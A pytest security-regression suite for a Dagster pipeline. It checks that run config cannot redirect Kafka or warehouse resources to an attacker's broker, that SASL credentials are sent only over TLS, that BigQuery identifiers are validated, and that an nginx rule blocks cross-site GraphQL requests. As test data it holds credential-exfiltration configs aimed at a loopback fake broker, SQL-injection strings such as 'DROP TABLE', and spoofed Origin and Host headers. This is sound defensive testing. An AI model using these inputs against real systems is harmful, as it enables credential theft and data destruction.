"""Issue 19: where the pipeline connects, and with which secrets, is not run config.

The attack (loopback only): from the launchpad or GraphQL, ``{resources: {kafka: {config:
{config_file: <secrets file>, bootstrap_servers: <attacker>, security_protocol: SASL_PLAINTEXT}}}}``
made a run send the Confluent key and secret in cleartext to a fake broker, and ``{env: NAME}``
read any variable of the code server. Here real runs are launched with such config and must be
refused before any byte reaches a listener standing in for the attacker's broker. Also: SASL
credentials only over TLS, BigQuery identifiers validated where they are read, and the
reverse-proxy rule that keeps browsers of other sites away from the UI's GraphQL endpoint.
"""

from __future__ import annotations

import http.client
import http.server
import json
import re
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import dagster as dg
import pytest

from ch_pipeline.companies_house.bulk_csv import SAMPLE_FILE_DATE
from ch_pipeline.defs.bulk import company_house_bulk
from ch_pipeline.defs.resources import KafkaResource, WarehouseResource
from ch_pipeline.defs.stream import build_kafka_sensor, company_house_stream, landing_run_config
from ch_pipeline.kafka.broker import free_port
from ch_pipeline.settings import Settings, validate_bigquery_dataset, validate_gcp_project

REPO = Path(__file__).resolve().parents[2]
PROXY_RULE = REPO / "deploy" / "nginx-dagster-ui.conf"
PARTITION = "p0:0-9"
LANDING_CONFIG = {"ops": {"company_house_stream": {"config": {"offsets": PARTITION}}}}
FAKE_KEY = "TESTKEY0000000000"
FAKE_SECRET = "test-secret-not-real"
KAFKA_VARIABLES = ("KAFKA_BOOTSTRAP_SERVERS", "KAFKA_CONFIG_FILE", "KAFKA_TOPIC", "KAFKA_SECURITY_PROTOCOL",
                   "KAFKA_SASL_MECHANISM", "KAFKA_SASL_USERNAME", "KAFKA_SASL_PASSWORD")  # fmt: skip
WAREHOUSE_VARIABLES = ("CH_WAREHOUSE", "CH_DUCKDB_PATH", "GCP_PROJECT", "BIGQUERY_DATASET", "BIGQUERY_LOCATION",
                       "BIGQUERY_API_ENDPOINT", "GOOGLE_APPLICATION_CREDENTIALS", "CH_BULK_CSV")  # fmt: skip


class Listener:
    """A fake broker (or API endpoint) on loopback that only counts what it is sent."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.1)
        self.address = f"127.0.0.1:{self.server.getsockname()[1]}"
        self.connections = 0
        self.received = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            self.connections += 1
            with connection:
                connection.settimeout(0.5)
                try:
                    while data := connection.recv(65536):
                        self.received += len(data)
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.server.close()


@pytest.fixture
def attacker() -> Iterator[Listener]:
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()


@pytest.fixture
def instance():
    with dg.instance_for_test() as test_instance:
        yield test_instance


def secrets_file(directory: Path, bootstrap: str, protocol: str = "SASL_SSL") -> Path:
    path = directory / "kafka.ini"
    path.write_text(
        f"[default]\nbootstrap.servers={bootstrap}\nsecurity.protocol={protocol}\nsasl.mechanisms=PLAIN\n"
        f"sasl.username={FAKE_KEY}\nsasl.password={FAKE_SECRET}\n"
    )
    return path


@pytest.fixture
def production_like_env(monkeypatch, tmp_path: Path) -> Path:
    """Confluent Cloud through a secrets file (its broker is never reached), DuckDB under tmp_path."""
    for name in KAFKA_VARIABLES + WAREHOUSE_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    ini = secrets_file(tmp_path, f"127.0.0.1:{free_port()}")
    monkeypatch.setenv("KAFKA_CONFIG_FILE", str(ini))
    monkeypatch.setenv("CH_STREAM_API_KEY", "test-stream-key-not-real")
    monkeypatch.setenv("CH_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("CH_DUCKDB_PATH", str(tmp_path / "data" / "warehouse.duckdb"))
    return ini


def resource_config_fields(job: dg.JobDefinition, key: str) -> set[str]:
    """The fields the launchpad offers under ``resources.<key>.config`` (empty: nothing to set)."""
    resource = job.run_config_schema.config_type.fields["resources"].config_type.fields[key].config_type
    config = resource.fields.get("config")
    if config is None:
        return set()
    assert config.config_type.kind != dg._config.ConfigTypeKind.ANY, f"{key}: any config is accepted"  # noqa: SLF001
    return set(getattr(config.config_type, "fields", {}))


# --- 1. Run config cannot retarget the resources ---------------------------------------------------


def test_the_launchpad_offers_no_resource_config_for_kafka_or_the_warehouse():
    from ch_pipeline.definitions import defs

    for job in (defs.resolve_job_def("company_house_stream_job"), defs.resolve_implicit_global_asset_job_def()):
        for key in ("kafka", "warehouse"):
            assert resource_config_fields(job, key) == set(), f"{job.name}: {key} is configurable at launch"
    # Nor dbt's executable, project or target (a run could otherwise execute a binary of its choice).
    assert resource_config_fields(defs.resolve_implicit_global_asset_job_def(), "dbt") == set()


def test_graphql_refuses_resource_config_for_the_deployed_job(tmp_path: Path):
    """What the launchpad and a GraphQL client are told: the config is invalid (no run is launched)."""
    from dagster._core.test_utils import in_process_test_workspace
    from dagster._core.types.loadable_target_origin import LoadableTargetOrigin
    from dagster_graphql.test.utils import execute_dagster_graphql, infer_job_selector

    query = """
    query Valid($selector: PipelineSelector!, $config: RunConfigData) {
      isPipelineConfigValid(pipeline: $selector, mode: "default", runConfigData: $config) {
        __typename
        ... on RunConfigValidationInvalid { errors { message } }
      }
    }"""
    attack = {**LANDING_CONFIG, "resources": {
        "kafka": {"config": {"bootstrap_servers": "127.0.0.1:1", "security_protocol": "SASL_PLAINTEXT",
                             "sasl_password": {"env": "CH_STREAM_API_KEY"}}},
        "warehouse": {"config": {"duckdb_path": str(tmp_path / "elsewhere.duckdb")}},
    }}  # fmt: skip
    origin = LoadableTargetOrigin(
        executable_path=sys.executable, module_name="ch_pipeline.definitions", attribute="defs", working_directory=str(REPO)
    )
    with dg.instance_for_test() as instance, in_process_test_workspace(instance, origin) as context:
        selector = infer_job_selector(context, "company_house_stream_job")
        valid = execute_dagster_graphql(context, query, {"selector": selector, "config": LANDING_CONFIG}).data["isPipelineConfigValid"]
        refused = execute_dagster_graphql(context, query, {"selector": selector, "config": attack}).data["isPipelineConfigValid"]
        assert instance.get_runs() == []
    assert valid["__typename"] == "PipelineConfigValidationValid"
    assert refused["__typename"] == "RunConfigValidationInvalid"
    messages = " ".join(e["message"] for e in refused["errors"])
    assert "kafka" in messages and "warehouse" in messages and "unexpected config entr" in messages, messages


def kafka_attacks(ini: Path, attacker: Listener) -> dict[str, dict]:
    return {
        "secrets file to a fake broker in cleartext": {
            "config_file": str(ini), "bootstrap_servers": attacker.address, "security_protocol": "SASL_PLAINTEXT"},
        "any variable of the code server": {
            "bootstrap_servers": attacker.address, "security_protocol": "SASL_PLAINTEXT", "sasl_mechanism": "PLAIN",
            "sasl_username": "x", "sasl_password": {"env": "CH_STREAM_API_KEY"}},
        "another broker": {"bootstrap_servers": attacker.address},
        "another topic": {"topic": "someone_elses_topic"},
    }  # fmt: skip


@pytest.mark.parametrize("attack", ["secrets file to a fake broker in cleartext", "any variable of the code server",
                                    "another broker", "another topic"])  # fmt: skip
def test_a_launched_run_cannot_retarget_kafka(production_like_env: Path, attacker: Listener, instance, attack: str):
    config = kafka_attacks(production_like_env, attacker)[attack]
    with pytest.raises(dg.DagsterInvalidConfigError, match=r"unexpected config entr"):
        dg.materialize(
            [company_house_stream],
            instance=instance,
            resources={"kafka": KafkaResource.from_env(), "warehouse": WarehouseResource.from_env()},
            run_config={**LANDING_CONFIG, "resources": {"kafka": {"config": config}}},
        )
    time.sleep(0.3)  # anything in flight would have arrived by now
    assert (attacker.connections, attacker.received) == (0, 0)
    assert instance.get_runs() == []


def test_the_deployed_stream_job_cannot_be_retargeted(production_like_env: Path, attacker: Listener, instance):
    """The job the sensor launches, with the resources of ``ch_pipeline.definitions`` as loaded."""
    from ch_pipeline.definitions import defs

    config = kafka_attacks(production_like_env, attacker)["secrets file to a fake broker in cleartext"]
    with pytest.raises(dg.DagsterInvalidConfigError, match=r"unexpected config entr"):
        defs.resolve_job_def("company_house_stream_job").execute_in_process(
            run_config={**LANDING_CONFIG, "resources": {"kafka": {"config": config}}}, instance=instance
        )
    time.sleep(0.3)
    assert (attacker.connections, attacker.received) == (0, 0)


@pytest.mark.parametrize("attack", ["another file", "another BigQuery"])
def test_a_launched_run_cannot_retarget_the_warehouse(production_like_env: Path, attacker: Listener, instance,
                                                      tmp_path: Path, attack: str):  # fmt: skip
    elsewhere = tmp_path / "elsewhere.duckdb"
    config = {
        "another file": {"duckdb_path": str(elsewhere)},
        "another BigQuery": {"kind": "bigquery", "gcp_project": "attacker-project", "bigquery_dataset": "loot",
                             "bigquery_api_endpoint": f"http://{attacker.address}"},
    }[attack]  # fmt: skip
    with pytest.raises(dg.DagsterInvalidConfigError, match=r"unexpected config entr"):
        dg.materialize(
            [company_house_bulk],
            instance=instance,
            resources={"warehouse": WarehouseResource.from_env()},
            run_config={"ops": {"company_house_bulk": {"config": {"sample_rows": 20}}},
                        "resources": {"warehouse": {"config": config}}},
            partition_key=SAMPLE_FILE_DATE.isoformat(),
        )  # fmt: skip
    time.sleep(0.3)
    assert not elsewhere.exists()
    assert (attacker.connections, attacker.received) == (0, 0)


def test_resources_from_the_environment_still_run_without_config(production_like_env: Path, tmp_path: Path, instance):
    """No run config is needed (nor accepted): the values come from Settings."""
    result = dg.materialize(
        [company_house_bulk],
        instance=instance,
        resources={"warehouse": WarehouseResource.from_env()},
        run_config={"ops": {"company_house_bulk": {"config": {"sample_rows": 20}}}},
        partition_key=SAMPLE_FILE_DATE.isoformat(),
    )
    assert result.success
    assert (tmp_path / "data" / "warehouse.duckdb").exists()
    with dg.build_resources({"kafka": KafkaResource.from_env()}) as resources:
        assert resources.kafka.client_config()["sasl.username"] == FAKE_KEY
        assert resources.kafka.topic == "company_house"


# --- 1b. SASL credentials only over TLS ------------------------------------------------------------


@pytest.mark.parametrize("protocol", [None, "PLAINTEXT", "SASL_PLAINTEXT", "SSL"])
def test_sasl_credentials_from_the_environment_need_sasl_ssl(monkeypatch, attacker: Listener, protocol: str | None):
    for name in KAFKA_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("KAFKA_BOOTSTRAP_SERVERS", attacker.address)
    monkeypatch.setenv("KAFKA_SASL_MECHANISM", "PLAIN")
    monkeypatch.setenv("KAFKA_SASL_USERNAME", FAKE_KEY)
    monkeypatch.setenv("KAFKA_SASL_PASSWORD", FAKE_SECRET)
    if protocol:
        monkeypatch.setenv("KAFKA_SECURITY_PROTOCOL", protocol)
    with pytest.raises(ValueError, match="SASL_SSL") as refused:
        Settings.from_env().kafka_client_config()
    assert FAKE_SECRET not in str(refused.value) and FAKE_KEY not in str(refused.value)
    with pytest.raises(ValueError, match="SASL_SSL"), dg.build_resources({"kafka": KafkaResource.from_env()}) as res:
        res.kafka.client_config()
    assert (attacker.connections, attacker.received) == (0, 0)


def test_sasl_credentials_in_a_config_file_need_sasl_ssl(monkeypatch, tmp_path: Path, attacker: Listener):
    for name in KAFKA_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("KAFKA_CONFIG_FILE", str(secrets_file(tmp_path, attacker.address, protocol="SASL_PLAINTEXT")))
    with pytest.raises(ValueError, match="SASL_SSL"):
        Settings.from_env().kafka_client_config()
    # The environment can make it safe (KAFKA_SECURITY_PROTOCOL overrides the file), not unsafe.
    monkeypatch.setenv("KAFKA_SECURITY_PROTOCOL", "SASL_SSL")
    assert Settings.from_env().kafka_client_config()["security.protocol"] == "SASL_SSL"
    assert (attacker.connections, attacker.received) == (0, 0)


def test_a_resource_built_in_code_cannot_send_sasl_without_tls(attacker: Listener, instance):
    """The sensor and the landing run refuse before connecting, whoever built the resource."""
    kafka = KafkaResource(bootstrap_servers=attacker.address, security_protocol="SASL_PLAINTEXT",
                          sasl_mechanism="PLAIN", sasl_username=FAKE_KEY, sasl_password=FAKE_SECRET)  # fmt: skip
    sensor = build_kafka_sensor(probe_timeout_seconds=1)
    with pytest.raises(Exception, match="SASL_SSL"):
        sensor(dg.build_sensor_context(instance=instance, cursor=None, resources={"kafka": kafka}))
    result = dg.materialize(
        [company_house_stream], run_config=landing_run_config(PARTITION), instance=instance, raise_on_error=False,
        resources={"kafka": kafka, "warehouse": WarehouseResource(duckdb_path=str(Path(instance.root_directory) / "w.duckdb"))},
    )  # fmt: skip
    assert not result.success
    failure = result.get_step_failure_events()[0].step_failure_data.error.to_string()
    assert "must be SASL_SSL" in failure and FAKE_SECRET not in failure
    time.sleep(0.3)
    assert (attacker.connections, attacker.received) == (0, 0)


@pytest.mark.parametrize("protocol", ["SASL_SSL", "sasl_ssl"])
def test_sasl_over_tls_and_plaintext_without_credentials_are_accepted(monkeypatch, protocol: str):
    for name in KAFKA_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    assert Settings.from_env().kafka_client_config() == {"bootstrap.servers": "127.0.0.1:9092"}  # the local broker
    kafka = KafkaResource(bootstrap_servers="broker:9092", security_protocol=protocol, sasl_username="k", sasl_password="s")
    assert kafka.client_config()["sasl.password"] == "s"


# --- 2. BigQuery identifiers -----------------------------------------------------------------------


@pytest.mark.parametrize("project", ["ch-pipeline-prod-test", "abcdef", "a" * 30, "my-project-123"])
def test_valid_gcp_projects(project: str):
    assert validate_gcp_project(project) == project


@pytest.mark.parametrize("project", ["short", "a" * 31, "Upper-case-1", "under_score", "1starts-with-digit",
                                     "ends-with-hyphen-", "proj`; DROP TABLE x; --", "my project", "example.com:proj"])  # fmt: skip
def test_invalid_gcp_projects_are_refused(project: str):
    with pytest.raises(ValueError, match="GCP_PROJECT"):
        validate_gcp_project(project)


@pytest.mark.parametrize("dataset", ["company_house", "A_1", "_x", "a" * 1024, "2024"])
def test_valid_bigquery_datasets(dataset: str):
    assert validate_bigquery_dataset(dataset) == dataset


@pytest.mark.parametrize("dataset", ["company_house`; DROP TABLE x; --", "x`", "has-hyphen", "has.dot", "two words",
                                     "a" * 1025, "caf\u00e9", "tab\there", "line\nbreak"])  # fmt: skip
def test_invalid_bigquery_datasets_are_refused(dataset: str):
    with pytest.raises(ValueError, match="BIGQUERY_DATASET"):
        validate_bigquery_dataset(dataset)


def test_settings_refuse_a_dataset_with_a_backtick(monkeypatch):
    monkeypatch.setenv("CH_WAREHOUSE", "bigquery")
    monkeypatch.setenv("GCP_PROJECT", "ch-pipeline-prod-test")
    monkeypatch.setenv("BIGQUERY_DATASET", "company_house` WHERE 1=1; --")
    with pytest.raises(ValueError, match=r"BIGQUERY_DATASET.*letters, digits and underscores"):
        Settings.from_env()
    monkeypatch.setenv("BIGQUERY_DATASET", "company_house")
    monkeypatch.setenv("GCP_PROJECT", "ch-pipeline`.x")
    with pytest.raises(ValueError, match="GCP_PROJECT"):
        Settings.from_env()
    monkeypatch.setenv("GCP_PROJECT", "ch-pipeline-prod-test")
    settings = Settings.from_env()
    assert (settings.gcp_project, settings.bigquery_dataset) == ("ch-pipeline-prod-test", "company_house")


def test_a_warehouse_built_in_code_refuses_bad_identifiers_too():
    with pytest.raises(ValueError, match="BIGQUERY_DATASET"):
        WarehouseResource(kind="bigquery", gcp_project="ch-pipeline-test", bigquery_dataset="x`; DROP TABLE y")
    with pytest.raises(ValueError, match="GCP_PROJECT"):
        WarehouseResource(kind="bigquery", gcp_project="x`y", bigquery_dataset="company_house")


# --- 3. The reverse-proxy rule for the UI ----------------------------------------------------------


def proxy_rule() -> tuple[str, str]:
    """(the header comment, the directives without comments)."""
    text = PROXY_RULE.read_text()
    header = "\n".join(line for line in text.splitlines() if line.startswith("#"))
    directives = "\n".join(line.split("#", 1)[0] if not line.lstrip().startswith("#") else "" for line in text.splitlines())
    return header, directives


def block(directives: str, opening: str) -> str:
    """The text of the ``{ ... }`` block that ``opening`` starts (braces matched)."""
    start = directives.index(opening)
    depth, i = 0, directives.index("{", start)
    for j in range(i, len(directives)):
        depth += {"{": 1, "}": -1}.get(directives[j], 0)
        if depth == 0:
            return directives[i : j + 1]
    raise AssertionError(f"unbalanced braces after {opening!r}")


def test_the_proxy_rule_checks_method_content_type_origin_host_and_identity():
    assert PROXY_RULE.exists(), "deploy/nginx-dagster-ui.conf is missing"
    header, directives = proxy_rule()
    assert directives.count("{") == directives.count("}")
    # Why it exists, in its header.
    for word in ("GET", "Origin", "mutation", "application/json", "127.0.0.1:3000"):
        assert word in header, f"the header comment does not explain {word!r}"
    # GraphQL: JSON POST (or the UI's WebSocket) only; anything else refused.
    graphql = block(directives, "location = /graphql")
    assert "proxy_pass" in graphql and re.search(r"return\s+405", graphql) and re.search(r"return\s+415", graphql)
    assert re.search(r"~\*\^POST::application/json", directives), "a POST must be application/json"
    assert re.search(r"~\*\^GET:websocket:\$", directives), "GET only as the UI's WebSocket"
    # Origin: a browser's Origin must be the configured site; anything else 403.
    origin_map = block(directives, "map $http_origin")
    assert re.search(r"default\s+0;", origin_map) and re.search(r'"https://dagster\.example\.com"\s+1;', origin_map)
    assert re.search(r"if \(\$\w*origin\w* = 0\)\s*\{\s*return 403;", directives)
    # Host: other names get nothing (default server), and the site checks Host itself.
    assert re.search(r"default_server;[^}]*return 444;", directives)
    assert re.search(r'if \(\$host != "dagster\.example\.com"\)\s*\{\s*return 421;', directives)
    assert re.search(r"server_name\s+dagster\.example\.com;", directives)
    # Identity: basic auth (or auth_request) before anything reaches the webserver.
    assert "auth_basic_user_file" in directives or "auth_request" in directives
    assert "auth_request" in header


def render_for_test(port: int, backend: int, htpasswd: Path) -> str:
    """The shipped rule on a loopback port without TLS, proxying to ``backend``."""
    text = PROXY_RULE.read_text()
    text = re.sub(r"listen\s+443\s+ssl", f"listen 127.0.0.1:{port}", text)
    text = re.sub(r"^\s*ssl_\w+\s[^;]*;", "", text, flags=re.MULTILINE)
    text = re.sub(r"auth_basic_user_file\s+[^;]+;", f"auth_basic_user_file {htpasswd};", text)
    return text.replace("http://127.0.0.1:3000", f"http://127.0.0.1:{backend}")


class Backend(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        Backend.seen.append(f"{self.command} {self.path}")
        body = b'{"data": {}}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_OPTIONS = _answer

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def proxy(tmp_path: Path) -> Iterator[tuple[int, dict[str, str]]]:
    nginx = shutil.which("nginx") or next((p for p in ("/usr/sbin/nginx",) if Path(p).exists()), None)
    if nginx is None:
        pytest.skip("nginx is not installed (the static check above still runs)")
    backend = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Backend)
    threading.Thread(target=backend.serve_forever, daemon=True).start()
    user, password = "operator", secrets.token_hex(8)
    htpasswd = tmp_path / "htpasswd"
    htpasswd.write_text(f"{user}:{{PLAIN}}{password}\n")
    port = free_port()
    (tmp_path / "site.conf").write_text(render_for_test(port, backend.server_address[1], htpasswd))
    (tmp_path / "nginx.conf").write_text(
        f"master_process off;\ndaemon off;\npid {tmp_path}/nginx.pid;\nerror_log {tmp_path}/error.log;\n"
        "events {}\nhttp {\n  access_log off;\n"
        + "".join(f"  {kind}_temp_path {tmp_path}/{kind};\n" for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"))
        + f"  include {tmp_path}/site.conf;\n}}\n"
    )
    checked = subprocess.run([nginx, "-t", "-p", str(tmp_path), "-c", str(tmp_path / "nginx.conf")], capture_output=True, text=True)
    assert checked.returncode == 0, checked.stderr
    server = subprocess.Popen([nginx, "-p", str(tmp_path), "-c", str(tmp_path / "nginx.conf")], stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 10
        while socket.socket().connect_ex(("127.0.0.1", port)) != 0:
            assert time.monotonic() < deadline and server.poll() is None, (tmp_path / "error.log").read_text()
            time.sleep(0.05)
        import base64

        token = base64.b64encode(f"{user}:{password}".encode()).decode()
        yield port, {"Host": "dagster.example.com", "Authorization": f"Basic {token}"}
    finally:
        server.terminate()
        server.wait(10)
        backend.shutdown()
        backend.server_close()


def request(port: int, method: str, path: str, headers: dict[str, str], body: str | None = None) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        connection.request(method, path, body=body, headers=headers)
        return connection.getresponse().status
    except (http.client.RemoteDisconnected, ConnectionResetError):
        return 444
    finally:
        connection.close()


def test_the_proxy_rule_in_a_real_nginx(proxy):
    port, site = proxy
    mutation = json.dumps({"query": "mutation { wipeAssets(assetPartitionRanges: []) { __typename } }"})
    json_post = {**site, "Content-Type": "application/json"}
    same_site = {**json_post, "Origin": "https://dagster.example.com"}
    Backend.seen.clear()
    refused = {
        "GET mutation": request(port, "GET", "/graphql?query=mutation%7BwipeAssets%7D", site),
        "form POST": request(port, "POST", "/graphql", {**site, "Content-Type": "application/x-www-form-urlencoded"}, "query=mutation"),
        "text POST": request(port, "POST", "/graphql", {**site, "Content-Type": "text/plain"}, mutation),
        "preflight": request(port, "OPTIONS", "/graphql", {**site, "Origin": "https://dagster.example.com"}),
        "other site's Origin": request(port, "POST", "/graphql", {**json_post, "Origin": "https://evil.example"}, mutation),
        "opaque Origin": request(port, "POST", "/graphql", {**json_post, "Origin": "null"}, mutation),
        "other site's WebSocket": request(port, "GET", "/graphql", {**site, "Origin": "https://evil.example",
                                          "Upgrade": "websocket", "Connection": "Upgrade"}),  # fmt: skip
        "other site's report": request(port, "POST", "/report_asset_materialization/x", {**json_post, "Origin": "https://evil.example"}, "{}"),
        "no credentials": request(port, "POST", "/graphql", {k: v for k, v in same_site.items() if k != "Authorization"}, mutation),
        "rebound Host": request(port, "POST", "/graphql", {**same_site, "Host": "attacker.example"}, mutation),
    }
    assert refused == {
        "GET mutation": 405, "form POST": 415, "text POST": 415, "preflight": 405, "other site's Origin": 403,
        "opaque Origin": 403, "other site's WebSocket": 403, "other site's report": 403, "no credentials": 401,
        "rebound Host": 444,
    }  # fmt: skip
    assert Backend.seen == [], "a refused request reached the webserver"
    allowed = {
        "the UI's JSON POST": request(port, "POST", "/graphql", same_site, mutation),
        "a script's JSON POST": request(port, "POST", "/graphql", json_post, mutation),
        "JSON with a charset": request(port, "POST", "/graphql", {**same_site, "Content-Type": "application/json; charset=utf-8"}, mutation),
        "the UI's WebSocket": request(port, "GET", "/graphql", {**site, "Origin": "https://dagster.example.com",
                                      "Upgrade": "websocket", "Connection": "Upgrade"}),  # fmt: skip
        "a page": request(port, "GET", "/asset-groups", site),
    }
    assert set(allowed.values()) == {200}, allowed
    assert len(Backend.seen) == len(allowed)
